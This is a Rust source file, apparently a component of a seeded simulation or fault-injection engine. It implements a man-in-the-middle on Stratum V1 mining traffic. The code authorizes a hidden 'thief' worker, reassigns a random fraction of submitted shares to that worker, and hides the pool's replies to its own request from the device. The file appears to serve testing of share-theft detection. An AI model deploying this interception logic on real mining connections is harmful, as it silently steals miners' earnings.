//! The man in the middle of a Stratum V1 connection: lines of JSON, which anybody can read and
//! write.

use bytes::Bytes;
use serde_json::{Value, json};

use crate::engine::{Purpose, Stream};

/// Between a device and a pool.
pub(super) struct LineMan {
    part: f64,
    choice: Stream,
    has_named_himself: bool,
    pub(super) seen: u64,
}

impl LineMan {
    pub(super) fn new(part: f64, seed: u64) -> Self {
        let choice = Stream::new(seed, 0, Purpose::Fault);
        LineMan { part, choice, has_named_himself: false, seen: 0 }
    }

    /// From the device: what the pool gets instead.
    pub(super) fn up(&mut self, line: &Bytes) -> Vec<Bytes> {
        let Ok(mut call) = serde_json::from_slice::<Value>(line) else {
            return vec![line.clone()];
        };
        match call["method"].as_str() {
            // Behind the device's own, so that the pool knows both.
            Some("mining.authorize") if !self.has_named_himself => {
                self.has_named_himself = true;
                let own = json!({
                    "id": OWN_ID, "method": "mining.authorize", "params": [THIEF, "x"],
                });
                vec![line.clone(), own.to_string().into()]
            }
            Some("mining.submit") => {
                self.seen += 1;
                if self.choice.unit() < self.part {
                    call["params"][0] = json!(THIEF);
                    return vec![call.to_string().into()];
                }
                vec![line.clone()]
            }
            _ => vec![line.clone()],
        }
    }
}

/// From the pool: whether the device gets it.
pub(super) fn passes_down(line: &Bytes) -> bool {
    let answer = serde_json::from_slice::<Value>(line).unwrap_or_default();
    answer["id"] != json!(OWN_ID)
}

/// Whom a share is submitted for.
pub(super) fn submitter(line: &Bytes) -> Option<String> {
    let call: Value = serde_json::from_slice(line).ok()?;
    let is_share = call["method"] == "mining.submit";
    is_share.then(|| call["params"][0].as_str().map(str::to_owned)).flatten()
}

/// Whom stolen shares are for.
pub(super) const THIEF: &str = "thief";
/// Of his own request; devices count from 1.
const OWN_ID: u64 = 1 << 40;
